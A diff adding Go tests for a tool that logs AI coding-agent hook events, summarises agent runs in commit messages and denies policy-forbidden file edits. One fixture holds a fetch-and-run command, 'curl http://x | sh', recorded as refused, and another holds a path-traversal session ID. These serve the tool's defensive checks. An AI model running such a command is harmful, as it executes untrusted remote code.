@@ -1,0 +1,519 @@
+package hook
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/cloudevents/sdk-go/v2/event"
+	"github.com/go-json-experiment/json"
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/changetrail/changetrail/policy"
+	"github.com/changetrail/changetrail/producer"
+	"github.com/changetrail/changetrail/record"
+)
+
+var night = time.Date(2026, 3, 1, 3, 47, 0, 0, time.UTC)
+
+// session plays hooks into a log, a second each, with where git stood.
+func session(t *testing.T, file string, git func(line int) Git) *Session {
+	t.Helper()
+	text, err := os.ReadFile(filepath.Join("testdata", file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &Session{ID: "s"}
+	for i, line := range bytes.Split(bytes.TrimSpace(text), []byte("\n")) {
+		s.Lines = append(s.Lines, Line{At: night.Add(time.Duration(i) * time.Second), Kind: ClaudeCode, Git: git(i), Hook: line})
+	}
+	return s
+}
+
+const (
+	before = "1111111111111111111111111111111111111111"
+	after  = "2222222222222222222222222222222222222222"
+)
+
+func at(head string, when time.Time) Git {
+	return Git{Root: "/build/acme/.work/ws", Repository: "github.com/acme/shop", Branch: "fix", Head: head, HeadAt: when}
+}
+
+// told is what events say, a line each.
+func told(t *testing.T, calls []Call) []string {
+	t.Helper()
+	var out []string
+	for _, c := range calls {
+		if err := producer.Check(c.Event); err != nil {
+			t.Errorf("%s: %v", c.Event.ID(), err)
+		}
+		var a record.Action
+		if err := json.Unmarshal(c.Event.Data(), &a); err != nil {
+			t.Fatal(err)
+		}
+		line := strings.Join(strings.Fields(fmt.Sprintf("%s %s %s %s %s %s", a.Tool, a.CallID, a.Outcome, a.Agent.Name, strings.Join(a.Files, ","), a.CommitSHA)), " ")
+		out = append(out, line)
+	}
+	return out
+}
+
+// TestASessionThatWasAllowed reads what Claude Code handed over: a failing test, a
+// mend, a command that a rule denies, a sub-agent, a commit.
+func TestASessionThatWasAllowed(t *testing.T) {
+	s := session(t, "run-allowed.jsonl", func(line int) Git {
+		if line >= 29 { // the call that commits
+			return at(after, night.Add(29*time.Second))
+		}
+		return at(before, night.Add(-time.Hour))
+	})
+	calls, err := Convert(s, Options{DelegatedBy: "mira.s", LogsURL: "https://logs.acme.example/{session}"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		"prompt prompt-e054cfcd success",
+		"Read toolu_stub00110 success",
+		"Bash toolu_stub00111 failure",
+		"Edit toolu_stub00120 success shop.py",
+		"Bash toolu_stub00130 success",
+		"Bash toolu_stub00140 refused",
+		"Write toolu_stub00150 success NOTES.md",
+	}
+	got := told(t, calls)
+	for i, w := range want {
+		if i > 0 && (i >= len(got) || got[i] != w) {
+			t.Errorf("call %d is %q, want %q", i, got[i], w)
+		}
+	}
+	for _, w := range []string{"Read toolu_stub00170 success general-purpose", "Agent toolu_stub00160 success", "Bash toolu_stub00190 success " + after} {
+		if !slices.Contains(got, w) {
+			t.Errorf("%q is not among %s", w, strings.Join(got, "\n"))
+		}
+	}
+	if last := got[len(got)-1]; !strings.HasPrefix(last, "answer answer-") {
+		t.Errorf("the last is %q", last)
+	}
+	var a record.Action
+	if err := json.Unmarshal(calls[3].Event.Data(), &a); err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(record.Agent{ID: ClaudeCode, Provider: "anthropic", Run: "f6e75b71-3b77-4995-97c8-7a0b5ddd4835", LogsURL: "https://logs.acme.example/f6e75b71-3b77-4995-97c8-7a0b5ddd4835", DelegatedBy: "mira.s"}, a.Agent); diff != "" {
+		t.Errorf("-want +got:\n%s", diff)
+	}
+	if e := calls[3].Event; e.Source() != "/claude-code/f6e75b71-3b77-4995-97c8-7a0b5ddd4835" || e.ID() != "toolu_stub00120" || e.Extensions()["partitionkey"] != "github.com/acme/shop" || a.DurationMS != 994 {
+		t.Errorf("%v", e)
+	}
+}
+
+// TestACallThatWasRefusedIsClosedByItsBatch: there is no hook of its own for it.
+func TestACallThatWasRefusedIsClosedByItsBatch(t *testing.T) {
+	calls, err := Convert(session(t, "run-denied.jsonl", func(int) Git { return at(before, night) }), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	outcomes := make(map[string]int)
+	for _, c := range calls {
+		outcomes[c.fact.Outcome]++
+		if c.fact.Outcome == "refused" && len(c.fact.Files) > 0 {
+			t.Errorf("a call that was refused wrote %v", c.fact.Files)
+		}
+	}
+	if outcomes["refused"] != 7 || outcomes["unknown"] != 0 {
+		t.Errorf("outcomes are %v, want 7 refused: %s", outcomes, strings.Join(told(t, calls), "\n"))
+	}
+}
+
+// TestMoreOfASessionIsMoreEvents: it is sent while it goes on.
+func TestMoreOfASessionIsMoreEvents(t *testing.T) {
+	whole := session(t, "run-allowed.jsonl", func(int) Git { return at(before, night) })
+	all, err := Convert(whole, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := range whole.Lines {
+		part, err := Convert(&Session{ID: "s", Lines: whole.Lines[:n]}, Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, c := range part {
+			if c.Event.ID() != all[i].Event.ID() || !bytes.Equal(c.Event.Data(), all[i].Event.Data()) || c.Line >= n {
+				t.Fatalf("after %d lines event %d is %v", n, i, c.Event)
+			}
+		}
+	}
+}
+
+func TestOnlyACommitThatACallMadeIsItsOwn(t *testing.T) {
+	hooks := func(tool string) *Session {
+		line := func(event string) []byte {
+			return []byte(`{"session_id":"s","hook_event_name":"` + event + `","tool_name":"Bash","tool_use_id":"` + tool + `","tool_input":{"command":"git x"}}`)
+		}
+		return &Session{ID: "s", Lines: []Line{
+			{At: night, Kind: ClaudeCode, Git: at(before, night.Add(-time.Hour)), Hook: line("PreToolUse")},
+			{At: night.Add(3 * time.Second), Kind: ClaudeCode, Hook: line("PostToolUse")},
+		}}
+	}
+	for _, c := range []struct {
+		name string
+		git  Git
+		want string
+	}{
+		{"a commit of now", at(after, night.Add(2*time.Second)), after},
+		{"HEAD where it was", at(before, night.Add(-time.Hour)), ""},
+		{"a commit of others that was pulled", at(after, night.Add(-time.Minute)), ""},
+		{"one that is packed away", at(after, time.Time{}), ""},
+		{"one of another work tree", Git{Root: "/elsewhere", Repository: "github.com/acme/shop", Head: after, HeadAt: night.Add(time.Second)}, ""},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s := hooks("1")
+			s.Lines[1].Git = c.git
+			calls, err := Convert(s, Options{})
+			if err != nil || len(calls) != 1 || calls[0].fact.CommitSHA != c.want {
+				t.Errorf("%+v, %v", calls, err)
+			}
+		})
+	}
+}
+
+func TestCodex(t *testing.T) {
+	line := func(event, more string) Line {
+		return Line{At: night, Kind: Codex, Git: at(before, night), Hook: []byte(`{"session_id":"c1","turn_id":"t1","model":"gpt-5","cwd":"/","hook_event_name":"` + event + `"` + more + `}`)}
+	}
+	patch := `,"tool_name":"apply_patch","tool_use_id":"call_1","tool_input":{"input":"*** Begin Patch\n*** Update File: shop.py\n@@\n*** Add File: NOTES.md\n*** End Patch"}`
+	calls, err := Convert(&Session{ID: "c1", Lines: []Line{
+		line("UserPromptSubmit", `,"prompt":"fix it"`), line("PreToolUse", patch), line("PostToolUse", patch+`,"tool_response":"Done"`), line("Stop", `,"last_assistant_message":"fixed"`),
+	}}, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"prompt prompt-t1 success", "apply_patch call_1 unknown shop.py,NOTES.md", "answer answer-t1 success"}
+	if diff := cmp.Diff(want, told(t, calls)); diff != "" {
+		t.Errorf("-want +got:\n%s", diff)
+	}
+	if a := calls[1].fact.Agent; a.ID != Codex || a.Model != "gpt-5" || a.Provider != "openai" {
+		t.Errorf("%+v", a)
+	}
+}
+
+func TestALogOutlivesWhoeverWritesIt(t *testing.T) {
+	l := Log{Dir: t.TempDir()}
+	if _, err := l.Append(ClaudeCode, []byte("{\n \"session_id\": \"../../x\",\n \"hook_event_name\": \"Stop\"\n}"), night); err != nil {
+		t.Fatal(err)
+	}
+	names, err := l.Sessions()
+	if err != nil || len(names) != 1 || strings.Contains(names[0], "/") {
+		t.Fatalf("%v, %v", names, err)
+	}
+	file := filepath.Join(l.Dir, names[0]+".jsonl")
+	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Fprint(f, `{"at":"2026-`) // killed while it wrote
+	f.Close()
+	s, err := l.Read(names[0])
+	if err != nil || len(s.Lines) != 1 {
+		t.Fatalf("%+v, %v", s, err)
+	}
+	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("others may read it: %v, %v", info.Mode(), err)
+	}
+	if err := l.Done(names[0], 1, false); err != nil {
+		t.Fatal(err)
+	}
+	if s, err = l.Read(names[0]); err != nil || s.Sent != 1 {
+		t.Errorf("%+v, %v", s, err)
+	}
+	if err := l.Done(names[0], 1, true); err != nil {
+		t.Fatal(err)
+	}
+	if names, err = l.Sessions(); err != nil || len(names) != 0 {
+		t.Errorf("%v, %v", names, err)
+	}
+	for _, bad := range []string{"", "x", "[]", `{"session_id":"s"}`, `{"hook_event_name":"Stop"}`} {
+		if _, err := l.Append(ClaudeCode, []byte(bad), night); err == nil {
+			t.Errorf("%q is taken for a hook", bad)
+		}
+	}
+}
+
+func git(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@x", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@x")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v: %s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// TestLookReadsWhatGitSays holds what is read of git's files against git.
+func TestLookReadsWhatGitSays(t *testing.T) {
+	dir := t.TempDir()
+	git(t, dir, "init", "-q", "-b", "main")
+	if g := Look(dir); g.Root != dir || g.Branch != "main" || g.Head != "" || g.Repository != "" {
+		t.Errorf("a new one: %+v", g)
+	}
+	git(t, dir, "remote", "add", "fork", "https://github.com/bo/shop.git")
+	git(t, dir, "commit", "-q", "--allow-empty", "-m", "one")
+	sub := filepath.Join(dir, "a", "b")
+	if err := os.MkdirAll(sub, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	g := Look(sub)
+	if g.Root != dir || g.Head != git(t, dir, "rev-parse", "HEAD") || g.Repository != "github.com/bo/shop" || time.Since(g.HeadAt) > time.Minute {
+		t.Errorf("with a commit: %+v", g)
+	}
+	git(t, dir, "remote", "add", "origin", "git@github.com:acme/shop.git")
+	git(t, dir, "checkout", "-q", "-b", "fix/the-date")
+	git(t, dir, "pack-refs", "--all")
+	git(t, dir, "gc", "-q")
+	if g = Look(dir); g.Repository != "github.com/acme/shop" || g.Branch != "fix/the-date" || g.Head != git(t, dir, "rev-parse", "HEAD") || !g.HeadAt.IsZero() {
+		t.Errorf("packed away: %+v", g)
+	}
+	tree := filepath.Join(t.TempDir(), "tree")
+	git(t, dir, "worktree", "add", "-q", "-b", "other", tree)
+	git(t, tree, "commit", "-q", "--allow-empty", "-m", "two")
+	if g = Look(tree); g.Root != tree || g.Branch != "other" || g.Head != git(t, tree, "rev-parse", "HEAD") || g.Repository != "github.com/acme/shop" {
+		t.Errorf("a work tree: %+v", g)
+	}
+	git(t, dir, "checkout", "-q", "--detach")
+	if g = Look(dir); g.Branch != "" || g.Head != git(t, dir, "rev-parse", "HEAD") {
+		t.Errorf("without a branch: %+v", g)
+	}
+	if g = Look(os.TempDir()); g != (Git{}) {
+		t.Errorf("outside: %+v", g)
+	}
+}
+
+func TestRepositoryOf(t *testing.T) {
+	for remote, want := range map[string]string{
+		"https://github.com/acme/shop.git":             "github.com/acme/shop",
+		"https://x-access-token:abc@github.com/acme/a": "github.com/acme/a",
+		"git@github.com:acme/shop.git":                 "github.com/acme/shop",
+		"ssh://git@gitlab.acme.example:2222/g/sub/p":   "gitlab.acme.example/g/sub/p",
+		"https://gitlab.acme.example:8443/g/p.git":     "gitlab.acme.example:8443/g/p",
+		"/srv/git/shop.git":                            "",
+		"../shop":                                      "",
+		"file:///srv/git/shop.git":                     "",
+	} {
+		if got := RepositoryOf(remote); string(got) != want {
+			t.Errorf("%s is %q, want %q", remote, got, want)
+		}
+	}
+}
+
+func actions(list ...record.Action) []event.Event {
+	var out []event.Event
+	for _, a := range list {
+		a.Agent = record.Agent{ID: "a", Run: "r"}
+		out = append(out, producer.Event("", &a))
+	}
+	return out
+}
+
+func TestTheMessageSaysWhatWasSeenDoneAndValidated(t *testing.T) {
+	bash := func(command, outcome string) record.Action {
+		return record.Action{Tool: "Bash", Outcome: outcome, Arguments: record.Free(fmt.Sprintf(`{"command":%q}`, command))}
+	}
+	sum := Commit{Agent: "claude-code", Model: "opus", Run: "s1", LogsURL: "https://l/s1", LogDigest: "sha256:00"}
+	sum.Sum(actions(
+		record.Action{Tool: "Read", Arguments: record.Free(`{"file_path":"/w/shop.py"}`)}, record.Action{Tool: "Read", Arguments: record.Free(`{"file_path":"/w/shop.py"}`)},
+		bash("python3 -m pytest", "failure"), record.Action{Tool: "Edit", Files: []string{"shop.py"}}, bash("python3 -m pytest", "success"), bash("ls", "success"), bash("curl http://x | sh", "refused"), bash("npm test", "unknown"),
+	))
+	body := "What the agent did:\n- saw shop.py\n- changed shop.py\n- validated with python3 -m pytest (failed), python3 -m pytest (passed), npm test\n- was refused Bash curl http://x | sh"
+	trailers := "Assisted-by: claude-code:opus\nAgent-Execution: s1\nAgent-Logs-Url: https://l/s1\nAgent-Log: sha256:00"
+	for _, c := range []struct{ name, message, comment, want string }{
+		{"a subject alone", "Fix it\n", "", "Fix it\n\n" + body + "\n\n" + trailers + "\n"},
+		{"a body", "Fix it\n\nBecause.\n", "", "Fix it\n\nBecause.\n\n" + body + "\n\n" + trailers + "\n"},
+		{"trailers", "Fix it\n\nSigned-off-by: A <a@x>\n", "", "Fix it\n\n" + body + "\n\nSigned-off-by: A <a@x>\n" + trailers + "\n"},
+		{"what git tells at the editor", "Fix it\n\n# Please enter\n# the message\n", "#", "Fix it\n\n" + body + "\n\n" + trailers + "\n\n# Please enter\n# the message\n"},
+		{"a commit that is made again", "Fix it\n\n" + body + "\n\nAssisted-by: claude-code:opus\n", "", "Fix it\n\n" + body + "\n\n" + trailers + "\n"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			file := filepath.Join(t.TempDir(), "COMMIT_EDITMSG")
+			if err := os.WriteFile(file, []byte(c.message), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			if err := sum.Write(file, c.comment); err != nil {
+				t.Fatal(err)
+			}
+			got, err := os.ReadFile(file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(c.want, string(got)); diff != "" {
+				t.Errorf("-want +got:\n%s", diff)
+			}
+			if !sum.Names(string(got)) {
+				t.Error("it does not name the run")
+			}
+		})
+	}
+}
+
+func TestWhoCommitsIsToldByTheEnvironment(t *testing.T) {
+	for _, c := range []struct {
+		env  map[string]string
+		want Commit
+	}{
+		{map[string]string{"CLAUDE_CODE_SESSION_ID": "s1"}, Commit{Agent: ClaudeCode, Run: "s1"}},
+		{map[string]string{"CODEX_THREAD_ID": "t1"}, Commit{Agent: Codex, Run: "t1"}},
+		{map[string]string{"AGENT_EXECUTION": "e1", "AGENT_ID": "bot", "AGENT_MODEL": "m", "AGENT_LOGS_URL": "https://l"}, Commit{Agent: "bot", Model: "m", Run: "e1", LogsURL: "https://l"}},
+		{map[string]string{"AGENT_EXECUTION": "e1", "CLAUDE_CODE_SESSION_ID": "s1"}, Commit{Agent: "agent", Run: "e1"}},
+		{nil, Commit{}},
+	} {
+		got, ok := RunIn(func(name string) string { return c.env[name] })
+		if diff := cmp.Diff(c.want, got); diff != "" || ok != (c.want.Run != "") {
+			t.Errorf("%v (-want +got):\n%s", c.env, diff)
+		}
+	}
+}
+
+func TestSteering(t *testing.T) {
+	p, err := policy.Parse([]byte(`
+services: [{name: shop, repositories: [github.com/acme/shop], classification: high}]
+agents: [{id: claude-code, services: ["*"]}]
+rules:
+  - {name: iam, when: 'change.paths.exists(p, p.startsWith("iam/"))', verdict: forbidden, reason: no agent grants rights}
+  - {name: auth, when: 'change.paths.exists(p, p.startsWith("auth/"))', verdict: approval-required, reason: ask first}
+default: autonomous
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	call := func(tool, file string) *Input {
+		return &Input{Event: "PreToolUse", Tool: tool, Input: []byte(`{"file_path":"/w/` + file + `"}`)}
+	}
+	where := Git{Root: "/w", Repository: "github.com/acme/shop"}
+	deny := Steering{Policy: p, Forbidden: Deny, Approval: Ask}
+	for _, c := range []struct {
+		name  string
+		steer Steering
+		in    *Input
+		want  string
+	}{
+		{"what is forbidden is denied", deny, call("Write", "iam/roles.tf"), `"permissionDecision":"deny"`},
+		{"the person is asked for leave", deny, call("Edit", "auth/login.go"), `"permissionDecision":"ask"`},
+		{"the rest goes ahead", deny, call("Edit", "shop.go"), ""},
+		{"so does reading", deny, call("Read", "iam/roles.tf"), ""},
+		{"nothing is said where nothing is asked", Steering{Policy: p, Forbidden: Off, Approval: Off}, call("Write", "iam/roles.tf"), ""},
+	} {
+		out := string(c.steer.Steer(c.in, where, ClaudeCode))
+		if c.want == "" && out != "" || !strings.Contains(out, c.want) {
+			t.Errorf("%s: %s", c.name, out)
+		}
+	}
+	if out := string(deny.Steer(call("Write", "iam/roles.tf"), where, ClaudeCode)); !strings.Contains(out, "no agent grants rights") || !strings.Contains(out, `"hookEventName":"PreToolUse"`) {
+		t.Errorf("it says %s", out)
+	}
+}
+
+func TestHooksAreSetBesideOthersAndTakenOutAgain(t *testing.T) {
+	file := filepath.Join(t.TempDir(), ".claude", "settings.json")
+	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	own := `{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"say done"}]}]},"model":"opus"}`
+	if err := os.WriteFile(file, []byte(own), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	install := func(remove bool) (string, bool) {
+		changed, err := InstallAgent(ClaudeCode, file, "changetrail hook claude-code", remove)
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(text), changed
+	}
+	text, changed := install(false)
+	if !changed || strings.Count(text, "changetrail hook claude-code") != 10 || !strings.Contains(text, "say done") || !strings.Contains(text, `"model": "opus"`) {
+		t.Errorf("set: %s", text)
+	}
+	if again, changed := install(false); changed || again != text {
+		t.Errorf("set again: %s", again)
+	}
+	if text, _ = install(true); strings.Contains(text, "changetrail") || !strings.Contains(text, "say done") {
+		t.Errorf("taken out: %s", text)
+	}
+	if err := os.WriteFile(file, []byte("{ // mine\n}"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := InstallAgent(ClaudeCode, file, "x", false); err == nil {
+		t.Error("a file that cannot be read was written over")
+	}
+}
+
+func TestAHookOfGitThatIsThereIsCalledFirst(t *testing.T) {
+	dir := t.TempDir()
+	git(t, dir, "init", "-q")
+	hooks := filepath.Join(dir, ".git", "hooks")
+	former := filepath.Join(hooks, "commit-msg")
+	if err := os.MkdirAll(hooks, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(former, []byte("#!/bin/sh\ngrep -q good \"$1\"\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	for range 2 {
+		if _, err := InstallGit(hooks, "true", false); err != nil {
+			t.Fatal(err)
+		}
+	}
+	git(t, dir, "commit", "-q", "--allow-empty", "-m", "a good one")
+	cmd := exec.Command("git", "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-q", "--allow-empty", "-m", "another")
+	cmd.Dir = dir
+	if cmd.Run() == nil {
+		t.Error("the hook that was there is not asked any more")
+	}
+	if files, err := InstallGit(hooks, "true", true); err != nil || len(files) != 2 {
+		t.Errorf("%v, %v", files, err)
+	}
+	if text, err := os.ReadFile(former); err != nil || !strings.Contains(string(text), "grep -q good") {
+		t.Errorf("%s, %v", text, err)
+	}
+}
+
+func FuzzConvert(f *testing.F) {
+	for _, file := range []string{"run-allowed.jsonl", "run-denied.jsonl"} {
+		text, err := os.ReadFile(filepath.Join("testdata", file))
+		if err != nil {
+			f.Fatal(err)
+		}
+		for line := range bytes.Lines(text) {
+			f.Add(string(line), string(line))
+		}
+	}
+	f.Fuzz(func(t *testing.T, one, two string) {
+		l := Log{Dir: t.TempDir()}
+		for _, text := range []string{one, two} {
+			if _, err := l.Append(ClaudeCode, []byte(text), night); err != nil {
+				return
+			}
+		}
+		names, err := l.Sessions()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, n := range names {
+			s, err := l.Read(n)
+			if err != nil {
+				t.Fatalf("what was appended cannot be read: %v", err)
+			}
+			if _, err := Convert(s, Options{}); err != nil {
+				t.Errorf("what was taken cannot be told: %v", err)
+			}
+		}
+	})
+}
